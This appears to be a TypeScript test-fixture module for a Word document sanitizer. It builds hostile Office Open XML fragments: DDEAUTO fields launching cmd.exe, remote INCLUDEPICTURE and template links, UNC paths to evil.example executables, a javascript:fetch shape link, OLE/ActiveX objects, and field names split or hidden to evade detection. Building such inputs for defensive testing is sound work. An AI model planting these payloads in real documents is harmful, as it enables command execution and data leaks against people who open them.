const OFFICE = 'http://schemas.openxmlformats.org';
const A = `xmlns:a="${OFFICE}/drawingml/2006/main"`;
const WP = `xmlns:wp="${OFFICE}/drawingml/2006/wordprocessingDrawing"`;
const PIC = `xmlns:pic="${OFFICE}/drawingml/2006/picture"`;
const R = `xmlns:r="${OFFICE}/officeDocument/2006/relationships"`;
const MC = `xmlns:mc="${OFFICE}/markup-compatibility/2006"`;
const VML =
  'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';

const run = (content: string) => `<w:r>${content}</w:r>`;
export const paragraph = (content: string) => `<w:p>${content}</w:p>`;
const character = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (text: string) => run(`<w:instrText>${text}</w:instrText>`);
const SHOWN = `${character('separate')}${run('<w:t>shown</w:t>')}${character('end')}`;
const field = (text: string) => character('begin') + instruction(text) + SHOWN;

export function picture(blip: string, around = ''): string {
  const graphic = `<a:graphic ${A}><a:graphicData uri="${OFFICE}/drawingml/2006/picture"><pic:pic ${PIC}><pic:nvPicPr><pic:cNvPr id="1" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>${blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>`;
  return run(
    `<w:drawing><wp:inline ${WP} ${R} ${A} distT="0" distB="0" distL="0" distR="0"><wp:extent cx="900000" cy="900000"/><wp:docPr id="7" name="Picture 7">${around}</wp:docPr>${graphic}</wp:inline></w:drawing>`,
  );
}
const shape = (attributes: string, content: string) =>
  run(
    `<w:pict><v:shape ${VML} ${R} id="s" style="width:90pt;height:90pt" ${attributes}>${content}</v:shape></w:pict>`,
  );
const svg =
  '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="ID"/></a:ext></a:extLst>';

/**
 * Pieces of a paragraph that ask for an address, run something or bring it in; ID is the place of a relationship's id.
 */
export const hostileRuns = (address: string): Record<string, string> => ({
  'a linked picture': picture('<a:blip r:link="ID"/>'),
  'a picture embedded from elsewhere': picture('<a:blip r:embed="ID"/>'),
  'an SVG beside a picture': picture(`<a:blip r:embed="picture">${svg}</a:blip>`),
  'a link on a picture': picture('<a:blip r:embed="picture"/>', '<a:hlinkClick r:id="ID"/>'),
  'a link under the pointer': picture('<a:blip r:embed="picture"/>', '<a:hlinkHover r:id="ID"/>'),
  'a film': picture('<a:blip r:embed="picture"/>', '<a:videoFile r:link="ID"/>'),
  'a sound': picture('<a:blip r:embed="picture"/>', '<a:wavAudioFile r:embed="ID" name="a"/>'),
  'a linked VML picture': shape('', '<v:imagedata r:id="ID"/>'),
  'a VML picture by its source': shape('', `<v:imagedata src="${address}"/>`),
  'a VML picture by o:href': shape('', `<v:imagedata o:href="${address}"/>`),
  'a VML picture by r:href': shape('', '<v:imagedata r:href="ID"/>'),
  'a VML fill by its source': shape('', `<v:fill type="frame" src="${address}"/>`),
  'a VML fill by o:href': shape('', `<v:fill type="frame" o:href="${address}"/>`),
  'a VML fill from elsewhere': shape('', '<v:fill type="frame" r:id="ID"/>'),
  'a VML stroke by its source': shape('', `<v:stroke filltype="tile" src="${address}"/>`),
  'a VML edge by its source': shape(
    '',
    `<v:stroke><o:left filltype="tile" src="${address}"/></v:stroke>`,
  ),
  'a script on a shape': shape(`href="javascript:fetch('${address}')"`, ''),
  'a link on a shape': shape(`href="${address}" target="_blank"`, ''),
  'an address in a style': run(
    `<w:pict><v:rect ${VML} style="behavior:url(${address})"/></w:pict>`,
  ),
  'an OLE object': run(
    `<w:object><o:OLEObject ${VML} ${R} Type="Link" ProgID="Word.Document" ShapeID="s" r:id="ID" UpdateMode="Always"/></w:object>`,
  ),
  'a bare OLE object': run(`<o:OLEObject ${VML} ${R} Type="Embed" ProgID="Package" r:id="ID"/>`),
  'an ActiveX control': run(`<w:control ${R} w:name="c" r:id="ID"/>`),
  ink: run(`<w:contentPart ${R} r:id="ID"/>`),
  'a 3D model': run(
    `<w:drawing><am3d:model3d xmlns:am3d="http://schemas.microsoft.com/office/drawing/2017/model3d" ${R} r:embed="ID" r:link="ID"/></w:drawing>`,
  ),
  'a film of old': run(`<w:movie ${R} r:id="ID"/>`),
  'a smart tag': `<w:smartTag w:uri="${address}" w:element="e"><w:r><w:t>kept</w:t></w:r></w:smartTag>`,
  'a binding': `<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:prefixMappings="xmlns:a='${address}'" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent>${run('<w:t>kept</w:t>')}</w:sdtContent></w:sdt>`,
  'a way of drawing that is not known': `<mc:AlternateContent ${MC}><mc:Choice xmlns:evil="urn:evil" Requires="evil">${picture('<a:blip r:link="ID"/>')}</mc:Choice><mc:Fallback>${shape('', `<v:imagedata src="${address}"/>`)}</mc:Fallback></mc:AlternateContent>`,
  'a link elsewhere': `<w:hyperlink ${R} r:id="ID" w:docLocation="${address}" w:tgtFrame="x">${run('<w:t>kept</w:t>')}</w:hyperlink>`,
});

const linked = (address: string) => `INCLUDEPICTURE &quot;${address}&quot; \\d`;
const PATH = String.raw`\\evil.example\share\a.exe`;

/** Fields that fetch or run, in the ways in which they are hidden. */
export const hostileFields = (address: string): Record<string, string> => ({
  'a remote picture': field(linked(address)),
  DDEAUTO: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k evil.example&quot;'),
  'DDE in small letters': field('  dde cmd.exe evil.example'),
  INCLUDETEXT: field(`INCLUDETEXT &quot;${address}&quot;`),
  LINK: field(`LINK Excel.Sheet.8 &quot;${address}&quot; Sheet1!R1C1 \\a`),
  IMPORT: field(`IMPORT &quot;${address}&quot;`),
  EMBED: field('EMBED Package evil.example'),
  DATABASE: field(`DATABASE \\d &quot;${address}&quot;`),
  MACROBUTTON: field('MACROBUTTON evil.example Click'),
  GOTOBUTTON: field(`GOTOBUTTON ${address} Click`),
  AUTOTEXT: field('AUTOTEXT evil.example'),
  RD: field(`RD &quot;${address}&quot;`),
  'a link behind an anchor': field(`HYPERLINK \\l &quot;a&quot; &quot;${PATH}&quot;`),
  'a link to a share': field(`HYPERLINK &quot;${PATH}&quot;`),
  'a second address': field(`HYPERLINK &quot;https://a.example/&quot; &quot;${PATH}&quot;`),
  'a script in a link': field("HYPERLINK &quot;javascript:fetch('evil.example')&quot;"),
  'a path as an anchor': field(`HYPERLINK \\l &quot;${PATH}&quot;`),
  'other quotes': field(`HYPERLINK \\l “a” “${PATH}”`),
  'letters parted over runs':
    character('begin') +
    instruction('INC') +
    instruction('LUDEPIC') +
    instruction(`TURE &quot;${address}&quot;`) +
    SHOWN,
  'a name made by a field': `${character('begin')}${field('QUOTE INCLUDE')}${instruction(`PICTURE &quot;${address}&quot;`)}${SHOWN}`,
  'a name finished by a field': `${character('begin')}${instruction('INCLUDE')}${field('QUOTE PICTURE')}${instruction(` &quot;${address}&quot;`)}${SHOWN}`,
  'an address made by a field': `${character('begin')}${instruction('HYPERLINK &quot;')}${field(`QUOTE ${PATH}`)}${instruction('&quot;')}${SHOWN}`,
  'a name behind a deletion': `${character('begin')}<w:del w:id="91" w:author="a"><w:r><w:delInstrText>QUOTE </w:delInstrText></w:r></w:del>${instruction(linked(address))}${SHOWN}`,
  'a name behind a deletion that is written as it stays': `${character('begin')}<w:del w:id="93" w:author="a">${instruction('QUOTE ')}</w:del>${instruction('DDEAUTO cmd calc')}${SHOWN}`,
  'a name before an insertion': `${character('begin')}<w:ins w:id="92" w:author="a">${instruction('QUOTE ')}</w:ins>${instruction(linked(address))}${SHOWN}`,
  'a name in one way of drawing': `${character('begin')}<mc:AlternateContent ${MC}><mc:Choice xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" Requires="w14">${instruction('QUOTE ')}</mc:Choice><mc:Fallback/></mc:AlternateContent>${instruction(linked(address))}${SHOWN}`,
  'no end': `${character('begin')}${instruction(linked(address))}${run('<w:t>shown</w:t>')}`,
  'no field around it': instruction(linked(address)),
  'an instruction behind the result': `${character('begin')}${instruction('DATE')}${character('separate')}${instruction(linked(address))}${character('end')}`,
  'two paragraphs': `${character('begin')}${instruction('INCLUDE')}</w:p><w:p>${instruction(`PICTURE &quot;${address}&quot;`)}${SHOWN}`,
  'one element': `<w:fldSimple w:instr="${linked(address)}">${run('<w:t>shown</w:t>')}</w:fldSimple>`,
  'one element within another': `<w:fldSimple w:instr="DATE"><w:fldSimple w:instr="DDEAUTO cmd.exe evil.example"/></w:fldSimple>`,
  'a text box': run(
    `<w:pict><v:shape ${VML} id="b" style="width:90pt;height:90pt"><v:textbox><w:txbxContent>${paragraph(field(linked(address)))}</w:txbxContent></v:textbox></v:shape></w:pict>`,
  ),
  'a form field':
    run(
      `<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="a"/><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>`,
    ) +
    instruction('FORMTEXT') +
    SHOWN,
});

/** Pieces among paragraphs. */
export const hostileBlocks = (address: string): Record<string, string> => ({
  'a file to insert': `<w:altChunk ${R} r:id="ID"/>`,
  'a part of another document': `<w:subDoc ${R} r:id="ID"/>`,
  'XML of somebody’s own': `<w:customXml w:uri="${address}" w:element="e">${paragraph(run('<w:t>kept</w:t>'))}</w:customXml>`,
  frames: `<w:frameset><w:frame><w:sourceFileName ${R} r:id="ID"/></w:frame></w:frameset>`,
});

/** Pieces for the settings. */
export const hostileSettings = (address: string): Record<string, string> => ({
  'a template elsewhere': `<w:attachedTemplate ${R} r:id="ID"/>`,
  'a mail merge': `<w:mailMerge><w:dataType w:val="native"/><w:connectString w:val="${address}"/><w:query w:val="SELECT evil.example"/><w:dataSource ${R} r:id="ID"/></w:mailMerge>`,
  'a schema': `<w:attachedSchema w:val="${address}"/>`,
  'a style sheet': `<w:saveThroughXslt ${R} r:id="ID" w:solutionID="${address}"/>`,
  'a schema library': `<sl:schemaLibrary xmlns:sl="${OFFICE}/schemaLibrary/2006/main"><sl:schema sl:uri="${address}" sl:schemaLocation="${address}"/></sl:schemaLibrary>`,
  variables: `<w:docVars><w:docVar w:name="a" w:val="${address}"/></w:docVars>`,
});
